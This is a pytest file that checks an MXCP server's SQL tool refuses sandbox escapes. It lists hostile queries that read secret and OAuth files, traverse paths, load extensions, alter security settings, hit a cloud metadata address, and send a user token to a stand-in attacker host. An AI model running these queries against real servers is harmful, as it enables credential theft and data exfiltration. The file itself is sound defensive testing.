"""Ways out of the sandbox, tried by a signed-in person through the whole server, whose secrets lie in its project."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from tests.support.live import sqlite
from tests.support.site import CLIENT_SECRET, Site, github_auth
from tests.support.visitor import Visitor

HIDDEN = "hunter2-hidden"
WAYS_OUT = {
    "user file": "FROM read_text('{project}/config.yml')",
    "site file": "FROM read_text('{project}/mxcp-site.yml')",
    "OAuth database": "FROM read_blob('{project}/state/oauth.db')",
    "OAuth database's journal": "FROM read_blob('{project}/state/oauth.db-wal')",
    "its key": "FROM read_text('{project}/state/oauth.db.key')",
    "audit": "FROM read_text('{project}/audit.jsonl')",
    "hidden file": "FROM read_csv('{project}/.env')",
    "everything": "FROM read_text('{project}/*')",
    "outside": "FROM read_text('{project}/../outside.txt')",
    "link": "FROM read_text('{project}/link.txt')",
    "ATTACH": "ATTACH '{project}/state/oauth.db' AS o (TYPE sqlite)",
    "scanner of an extension": "FROM sqlite_scan('{project}/state/oauth.db', '_grants')",
    "COPY": "COPY (SELECT 1) TO '{project}/out.csv'",
    "COPY inside WITH": "WITH x AS (COPY (SELECT 1) TO '{project}/out.csv') SELECT 1",
    "EXPORT": "EXPORT DATABASE '{project}/dump'",
    "INSTALL": "INSTALL httpfs",
    "LOAD": "LOAD httpfs",
    "SET": "SET lock_configuration = false",
    "RESET": "RESET enable_external_access",
    "PRAGMA": "PRAGMA enable_logging",
    "CALL": "CALL enable_logging()",
    "secret": "CREATE SECRET s (TYPE http, BEARER_TOKEN 'x')",
    "two statements": "SELECT 1; COPY (SELECT 1) TO '{project}/out.csv'",
    "metadata": "FROM read_text('http://169.254.169.254/latest/meta-data')",
    "own server": "FROM read_text('http://localhost:8000/health')",
    "a host that is not listed": "FROM read_text('https://attacker.test/' || get_user_external_token())",
}


@pytest.fixture(name="site", params=[False, True], ids=["reads", "writes"])
def jailed(request: pytest.FixtureRequest, tmp_path: Path) -> Site:
    """Return a site that keeps everything in its project folder, and lets models read, or write as well."""
    site = Site(tmp_path / "site")
    site.config = site.project / "config.yml"
    site.environ["MXCP_CONFIG"] = str(site.config)
    site.configure(github_auth(persistence=sqlite(site.project), audit={"path": str(site.project / "audit.jsonl")}))
    site.write("mxcp-site.yml", f"mxcp: 1\nproject: demo\nprofile: dev\nsql_tools: {{write: {request.param}}}\n")
    site.write(".env", f"a\n{HIDDEN}\n")
    (site.folder / "outside.txt").write_text(HIDDEN)
    (site.project / "link.txt").symlink_to(site.folder / "outside.txt")
    return site


def execute(visitor: Visitor, token: str, sql: str) -> dict[str, Any]:
    """Return what execute_sql_query answers."""
    answer = visitor.call(token, "tools/call", name="execute_sql_query", arguments={"sql": sql})
    assert answer.status_code == 200, answer.text
    result: dict[str, Any] = answer.get_json()["result"]
    return result


def test_ways_out_over_http(visitor: Visitor, site: Site) -> None:
    """Each way must be refused with an error that shows nothing, and leave no file behind."""
    token, secrets = visitor.get_token(), (HIDDEN, CLIENT_SECRET, "gho_")
    before = sorted(path.name for path in site.project.iterdir())

    results = {name: execute(visitor, token, sql.format(project=site.project)) for name, sql in WAYS_OUT.items()}

    assert [name for name, result in results.items() if not result.get("isError")] == []
    assert [name for name, result in results.items() if any(secret in str(result) for secret in secrets)] == []
    assert {path.name for path in site.project.iterdir()} - {*before, "db-dev.duckdb", "db-dev.duckdb.wal"} == set()


def test_the_projects_own_over_http(visitor: Visitor, site: Site) -> None:
    """The same person must read a file of the project and be known by name."""
    site.write("data/open.csv", "a\n7\n")
    token = visitor.get_token()

    rows = execute(visitor, token, f"SELECT a, get_username() AS me FROM read_csv('{site.project}/data/open.csv')")

    assert rows["structuredContent"]["result"] == [{"a": 7, "me": "ada-fixture"}]
